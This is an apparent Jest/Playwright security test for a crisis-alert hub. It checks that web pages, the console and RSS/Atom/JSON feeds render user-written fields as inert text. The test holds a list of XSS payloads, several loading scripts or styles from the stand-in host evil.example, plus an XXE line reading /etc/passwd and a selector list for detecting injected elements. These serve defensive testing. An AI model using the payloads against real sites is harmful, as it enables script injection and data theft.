import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { content } from '../support/messages.js';
import { mapPng } from '../support/pictures.js';
import { openBrowser } from './chromium.js';
import { type StartedHub, startHub } from './started-hub.js';

/*
 * Every field that somebody can write holds what would be an element, a script or an address elsewhere. Each screen is
 * drawn twice, once with plain words in the same places, and has to have the same elements; no dialog opens, nothing of it
 * runs, and no policy had to stop anything.
 */
const PAYLOADS = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '"><img src=x onerror=hit()>',
  "'><svg onload=hit()>",
  '<img src=x onerror=alert(1)>//',
  '</title></main><script>hit()</script>',
  '</style><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '<![CDATA[<script>hit()</script>',
  '--><script>hit()</script><!--',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<iframe src=javascript:parent.hit()>',
  '<a href=javascript:hit()>Click</a>',
  '<a href="data:text/html,<script>hit()</script>">x',
  '<details open ontoggle=hit()>',
  '<input autofocus onfocus=hit()>',
  '<body onload=hit()>',
  '<math><mtext><script>hit()</script>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<style>@import "//evil.example/x.css";*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<base href=//evil.example/>',
  '<form action=//evil.example/><button>Sign in</button>',
  '<object data=//evil.example/x><embed src=//evil.example/x>',
  '<video><source onerror=hit()>',
  '<x-hit onclick=hit() style=position:fixed;inset:0>',
  '<template><script>hit()</script></template>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '{{constructor.constructor("hit()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it looks like
  '${hit()}',
  '<%= hit() %>',
  '"onmouseover="hit()" x="',
  "'-hit()-'",
  '";hit();//',
  '</script><script>hit()</script>',
  '<who/> <at/> $t(terms:now)',
  '<!ENTITY x SYSTEM "file:///etc/passwd">&x;',
  '<?xml-stylesheet href="//evil.example/x.css"?>',
];
/** All texts are of one length, since a screen says of a long one that it is cut. */
const LENGTH = 64;
const PLAIN = 'Smoke over the harbour'.padEnd(LENGTH, '.');

/**
 * The shortest field takes eighty characters, and says so shortly before: as many payloads as fit go together, one message
 * for each such text.
 */
const TEXTS = PAYLOADS.reduce<string[]>((texts, payload) => {
  const joined = `${texts.at(-1) ?? ''} ${payload}`.trim();
  return texts.length > 0 && joined.length <= LENGTH ? texts.with(-1, joined) : [...texts, payload];
}, []).map((text) => text.padEnd(LENGTH, '.'));

/** The same text in every field of a message, in two languages. */
const everywhere = (text: string, image: object) => {
  const said = { fr: text, nl: text };
  const texts = { headline: text, description: text, instruction: text, short: text, spoken: text };
  const { expires: _, ...plain } = content({ status: 'exercise' });
  return {
    ...plain,
    incident: text,
    event: said,
    area: { description: said, geocodes: [], polygons: [], circles: [] },
    sourceName: said,
    texts: { fr: texts, nl: texts },
    links: [{ url: 'https://crisis.example/', title: said }],
    contacts: [{ name: text, phone: '+32 2 000 00 00', url: null, for: 'public' }],
    media: [{ ...image, alt: said, credit: text }],
  };
};

let browser: Browser;
let hub: StartedHub;
let page: Page;
const dialogs: string[] = [];
const foreign: string[] = [];
const reports: string[] = [];
let plain: string;
let hostile: readonly { readonly reference: string; readonly payload: string }[];

beforeAll(async () => {
  browser = await openBrowser();
  hub = await startHub();
  const context = await browser.newContext({
    viewport: { width: 1280, height: 860 },
    reducedMotion: 'reduce',
    locale: 'en-US',
  });
  // What a payload would do, and what a policy had to stop: both are told to the test.
  await context.exposeFunction('hit', () => void reports.push('a payload ran'));
  await context.exposeFunction('told', (report: string) => void reports.push(report));
  await context.addInitScript(
    'addEventListener("securitypolicyviolation", (e) => told(e.violatedDirective + " " + e.blockedURI + " " + location.pathname + location.hash))',
  );
  page = await context.newPage();
  page.setDefaultTimeout(30_000);
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  context.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(hub.url) && !/^(data|blob):/.test(url)) foreign.push(url);
  });
  await page.goto(hub.firstOfficer);
  await page.getByLabel('E-mail').fill('a.peeters@crisis.example');
  await page.getByLabel('Name').fill('"><img src=x onerror=hit()>');
  await page.getByRole('textbox', { name: 'Password' }).fill('correct horse battery staple');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Nothing has been released' }).waitFor();

  // Nothing is to arrive while screens are compared; and whoever pauses a channel writes why.
  const { items } = await call<{ items: { id: string }[] }>('GET', '/channels');
  for (const { id } of items) await call('POST', `/channels/${id}/pause`, { reason: PAYLOADS[3] });
  const image = await upload(await mapPng());
  plain = await released(everywhere(PLAIN, image));
  const made: { reference: string; payload: string }[] = [];
  // Four at a time: releases take turns anyway, and a slow machine has to get through all of them.
  for (let at = 0; at < TEXTS.length; at += 4)
    made.push(
      ...(await Promise.all(
        TEXTS.slice(at, at + 4).map(async (payload) => ({
          reference: await released(everywhere(payload, image)),
          payload,
        })),
      )),
    );
  hostile = made;
}, 300_000);
afterAll(async () => {
  await browser?.close();
  await hub?.stop();
});

interface Called<T> {
  readonly status: number;
  readonly body: T;
}
async function call<T>(method: string, path: string, body?: unknown, headers: object = {}): Promise<T> {
  const asked = {
    method,
    headers: { 'content-type': 'application/json', ...headers },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  };
  const answer = (await page.evaluate(
    `fetch('/api/v1${path}', ${JSON.stringify(asked)}).then(async (a) => ({ status: a.status, body: await a.json().catch(() => null) }))`,
  )) as Called<T>;
  if (answer.status >= 300) throw new Error(`${method} ${path}: ${answer.status} ${JSON.stringify(answer.body)}`);
  return answer.body;
}

async function upload(bytes: Buffer): Promise<object> {
  const text = `fetch('/api/v1/media', { method: 'POST', headers: { 'content-type': 'image/png' }, body: Uint8Array.from(atob('${bytes.toString('base64')}'), (c) => c.charCodeAt(0)) }).then((a) => a.json())`;
  const { sha256 } = (await page.evaluate(text)) as { sha256: string };
  return { sha256 };
}

/** An alert, and a correction whose note says the same; then the draft of an update that stays a draft. */
async function released(body: ReturnType<typeof everywhere>): Promise<string> {
  const { id, reference } = await call<{ id: string; reference: string }>('POST', '/messages', body);
  await call('POST', `/messages/${id}/release`, {});
  await write(id, { ...body, kind: 'correction', note: { fr: body.texts.fr.headline, nl: body.texts.nl.headline } });
  await call('POST', `/messages/${id}/release`, {});
  await write(id, { ...body, kind: 'update' });
  return reference;
}
async function write(id: string, body: { readonly kind: string; readonly note?: object }): Promise<void> {
  const { revision } = await call<{ revision: number }>('POST', `/messages/${id}/draft`, { kind: body.kind });
  await call('PUT', `/messages/${id}/draft`, body, { 'if-match': `"${revision}"` });
}

/** Which elements there are, with the names of their attributes, in order; those of a message by their own. */
const elements = (of: string): Promise<string[]> =>
  page.evaluate(
    `[...document.querySelectorAll(${JSON.stringify(of)})].map((e) => e.localName + ' ' + e.getAttributeNames().sort().join(' '))`,
  );

/** What only a payload would bring: none of ours has any of it. */
const STRANGE =
  'x-hit, [onerror], [onload], [onclick], [onfocus], [ontoggle], [onbegin], [onmouseover], iframe, object, embed, base, ' +
  'template, math, video, [href^="javascript:"], [src^="javascript:"], [href^="data:text"], [href^="//evil.example"], [src*="evil.example"], ' +
  '[action*="evil.example"], meta[http-equiv]';

/** How many there are, with the scripts that would call the test. */
const strange = async (): Promise<number> =>
  (await page.locator(STRANGE).count()) +
  ((await page.evaluate(
    `[...document.scripts].filter(({ type, text }) => type !== 'application/ld+json' && text.includes('hit(')).length`,
  )) as number);

/** Everything is shown as the words that it is, and the screen has the elements that plain words have. */
async function sameAs(control: readonly string[], of: string, payload: string): Promise<string[]> {
  const found = await elements(of);
  const text = (await page.locator('body').innerText()) + (await inFields());
  const problems = [
    ...found.filter((element) => !control.includes(element)).map((element) => `a new element: ${element}`),
  ];
  if (found.length !== control.length) problems.push(`${found.length} elements instead of ${control.length}`);
  if (!text.includes(payload)) problems.push('it is nowhere to be read');
  if ((await strange()) > 0) problems.push('an element that only a payload would bring');
  return problems.map((problem) => `${payload}: ${problem}`);
}
const inFields = async (): Promise<string> =>
  (await page.evaluate(
    `[...document.querySelectorAll('textarea, input')].map((field) => field.value).join('\\n')`,
  )) as string;

const quiet = () => {
  expect(dialogs).toEqual([]);
  expect(reports).toEqual([]);
  expect(foreign).toEqual([]);
};

describe('what somebody wrote in every field of a message', () => {
  test('is text on the page, in each message, in each version, and brings no element', async () => {
    const problems: string[] = [];
    for (const path of ['', '/v1']) {
      await page.goto(`${hub.url}/fr/messages/${plain}${path}`);
      const control = await elements('body *, head *');
      expect(control.length).toBeGreaterThan(20);
      for (const { reference, payload } of hostile) {
        await page.goto(`${hub.url}/fr/messages/${reference}${path}`);
        problems.push(...(await sameAs(control, 'body *, head *', payload)).map((said) => `page ${path} ${said}`));
      }
    }
    for (const path of ['/', '/fr', '/nl']) {
      await page.goto(hub.url + path);
      problems.push(...(await allRead(path)));
    }
    expect(problems).toEqual([]);
    quiet();
  }, 300_000);

  test('is text in the console: board, list of messages, message, editor, preview and ledger', async () => {
    const problems: string[] = [];
    for (const room of ['board', 'messages', 'ledger', 'officers', 'own']) {
      await page.goto(`${hub.url}/console/#/${room}`);
      await settled();
      if ((await strange()) > 0) problems.push(`${room}: an element that only a payload would bring`);
      if (room === 'messages') problems.push(...(await allRead(room)));
    }
    for (const screen of ['', '/draft', '/preview']) {
      const at = (reference: string) => page.goto(`${hub.url}/console/#/messages/${reference}${screen}`);
      await at(plain);
      await settled();
      const control = await elements('main *');
      expect(control.length).toBeGreaterThan(20);
      for (const { reference, payload } of hostile) {
        // Five faults tell as much as fifty.
        if (problems.length > 5) break;
        await at(reference);
        problems.push(
          ...(await eventually(() => sameAs(control, 'main *', payload))).map((said) => `${screen} ${said}`),
        );
      }
    }
    expect(problems).toEqual([]);
    quiet();
  }, 300_000);

  test('is text in every feed: parsed, each entry has the elements that plain words have', async () => {
    const problems: string[] = [];
    await page.goto(`${hub.url}/fr`);
    for (const feed of [
      '/feeds/fr.rss',
      '/feeds/fr.atom',
      '/feeds/fr.versions.atom',
      '/feeds/cap.atom',
      '/feeds/cap.rss',
    ])
      problems.push(...((await page.evaluate(`(${READ_FEED})(${JSON.stringify(feed)})`)) as string[]));
    for (const feed of ['/feeds/fr.json', '/feeds/fr.ninjs', '/events.json']) {
      const text = await (await fetch(hub.url + feed)).text();
      const said = JSON.stringify(JSON.parse(text));
      for (const { payload } of hostile) {
        const words = JSON.stringify(payload).slice(1, -1);
        const asHtml = JSON.stringify(payload.replace(/[&<>"']/g, (c) => ESCAPED[c]!)).slice(1, -1);
        if (!said.includes(words) && !said.includes(asHtml)) problems.push(`${feed}: ${payload} is not in it`);
      }
    }
    expect(problems).toEqual([]);
    quiet();
  }, 120_000);
});

const ESCAPED: { readonly [character: string]: string } = {
  '&': '&amp;',
  '<': '&lt;',
  '>': '&gt;',
  '"': '&quot;',
  "'": '&#x27;',
};

/** Runs in the page: the feed as XML, and the HTML inside its entries as a reader would draw it. */
const READ_FEED = `async (feed) => {
  const xml = new DOMParser().parseFromString(await (await fetch(feed)).text(), 'application/xml');
  if (xml.querySelector('parsererror')) return [feed + ' is not well-formed'];
  const names = (root) => [...root.querySelectorAll('*')].map((e) => e.localName).join(' ');
  const entries = [...xml.querySelectorAll('entry, item')];
  if (entries.length === 0) return [feed + ' has no entry'];
  const shapes = new Map();
  for (const entry of entries) {
    let shape = names(entry);
    for (const part of entry.querySelectorAll('content, description, encoded, summary')) {
      // What a reader draws as HTML: RSS's own description and content:encoded, and Atom's content and summary that say so.
      const atom = part.namespaceURI === 'http://www.w3.org/2005/Atom' && part.getAttribute('type') === 'html';
      const rss = part.namespaceURI === null || part.localName === 'encoded';
      if (!atom && !rss) continue;
      const inner = new DOMParser().parseFromString(part.textContent, 'text/html');
      shape += ' | ' + names(inner.body);
      if (inner.querySelector('script, img[onerror], svg, iframe, object, embed, form, base, style, link, meta, video, input, math, [onload], [onclick], x-hit'))
        return [feed + ': ' + part.textContent.slice(0, 300)];
    }
    shapes.set(shape, (shapes.get(shape) ?? 0) + 1);
  }
  return shapes.size > 2 ? [feed + ' has ' + shapes.size + ' shapes of entries: ' + [...shapes.keys()].join(' // ').slice(0, 600)] : [];
}`;

/** Where all messages stand together: each payload can be read, and no element is strange. */
async function allRead(where: string): Promise<string[]> {
  return eventually(async () => {
    const text = await page.locator('body').innerText();
    const problems = hostile
      .filter(({ payload }) => !text.includes(payload))
      .map(({ payload }) => `${where}: ${payload} is nowhere`);
    if ((await strange()) > 0) problems.push(`${where}: an element that only a payload would bring`);
    return problems;
  });
}

/** What a screen says once it has been read from the desk: asked until it is as it should be, or ten seconds are over. */
async function eventually(ask: () => Promise<string[]>): Promise<string[]> {
  const patience = AbortSignal.timeout(5_000);
  for (;;) {
    const problems = await ask();
    if (problems.length === 0 || patience.aborted) return problems;
    await page.evaluate('new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))');
  }
}

/** Until the elements of the screen are the same in several looks: what it waited for has come. */
async function settled(): Promise<void> {
  await page.locator('main h1, main h2').first().waitFor();
  for (let [before, same] = ['', 0]; same < 20; ) {
    await page.evaluate('new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)))');
    const now = (await elements('main *')).join();
    same = now === before ? same + 1 : 0;
    before = now;
  }
}
